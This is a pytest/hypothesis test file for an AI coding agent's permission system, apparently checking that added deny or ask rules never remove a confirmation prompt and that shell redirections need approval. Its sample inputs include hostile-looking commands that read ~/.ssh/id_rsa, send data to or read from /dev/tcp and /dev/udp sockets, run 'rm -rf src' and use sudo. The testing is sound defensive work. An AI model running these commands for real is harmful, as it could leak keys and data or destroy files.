"""A rule answers only what it names: adding one that denies or asks never takes a question away."""

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from acp_agent.config.model import ToolsConfig
from acp_agent.config.safety_settings import PermissionRule
from acp_agent.safety.access import Allow, Ask, Deny, ExecuteAccess, Verdict
from acp_agent.safety.deciding.deciders import CallFacts, Deciders
from acp_agent.safety.folders.paths import Roots
from tests.nightly import examples

PIECES = (
    "ls", "cat a.txt", "cat < a.txt", "cat < /dev/tcp/198.51.100.1/80", "head -c 9 < /dev/udp/198.51.100.1/53",
    "cat < ../other/secret", "grep x < ~/.ssh/id_rsa", "echo hi > /dev/tcp/198.51.100.1/80", "cargo test", "rm -rf src",
    "git status", "git status < ../x", "sudo ls", "wc -l 0< /etc/hosts", "cat <<< x", "cat <> a.txt", "$X",
    "sh -c 'cat < /etc/hosts'",
)  # fmt: skip
JOINS = ("; ", " && ", " || ", " | ")
PATTERNS = ("*", "cargo *", "git *", "cat *", "cat", "ls", "terraform *", "rm *", "*sudo*", "cargo test", "never this")
RANK: dict[type[Verdict], int] = {Allow: 0, Ask: 1, Deny: 2}


def judged(project: Path, line: str, rules: list[PermissionRule], mode: str = "code") -> Verdict:
    config = ToolsConfig(permissions={"bash": rules} if rules else {})
    deciders = Deciders.from_config(config, Roots(project), {}, None, lambda key, index: f"{key}[{index}]")
    call = CallFacts("bash", {"command": line}, [ExecuteAccess(line, project)])
    return deciders.decide(call, mode=mode, may_change=True).verdict


def rule(pattern: str, action: str) -> PermissionRule:
    return PermissionRule(pattern=pattern, action=action)  # type: ignore[arg-type]


LINES = st.lists(st.tuples(st.sampled_from(PIECES), st.sampled_from(JOINS)), min_size=1, max_size=3).map(
    lambda parts: "".join(piece + join for piece, join in parts).rstrip("; &|")
)
RULES = st.lists(st.builds(rule, st.sampled_from(PATTERNS), st.sampled_from(["allow", "ask", "deny"])), max_size=3)


@settings(max_examples=examples(300), suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(LINES, RULES, st.builds(rule, st.sampled_from(PATTERNS), st.sampled_from(["ask", "deny"])))
def test_a_rule_that_denies_or_asks_never_takes_a_question_away(tmp_path: Path, line: str, rules, more) -> None:
    before = judged(tmp_path, line, rules)
    for added in ([*rules, more], [more, *rules]):
        after = judged(tmp_path, line, added)
        # Of two rules that match, the last one counts: an ask may come after a deny.
        assert RANK[type(after)] >= min(RANK[type(before)], RANK[Deny if more.action == "deny" else Ask])
        if isinstance(before, Ask) and isinstance(after, Ask):
            assert after.every_time >= before.every_time and after.by_person >= before.by_person


@settings(max_examples=examples(200), suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(LINES)
def test_a_rule_that_allows_something_else_answers_nothing(tmp_path: Path, line: str) -> None:
    assert judged(tmp_path, line, [rule("never this", "allow")]) == judged(tmp_path, line, [])


@pytest.mark.parametrize("line", [
    "cat < /dev/tcp/198.51.100.1/80", "cat < /dev/udp/198.51.100.1/53", "cat < ../other/secret", "cat 0< /etc/hosts",
    "cargo test && cat < ../other/secret", "cargo test; head < /dev/tcp/198.51.100.1/80",
    "cargo test < ../other/secret",
])  # fmt: skip
def test_a_redirection_is_not_covered_by_a_rule_for_the_program(tmp_path: Path, line: str) -> None:
    for rules in ([], [rule("terraform *", "deny")], [rule("cargo *", "allow")], [rule("cat *", "allow")]):
        assert isinstance(judged(tmp_path, line, rules), Ask), rules
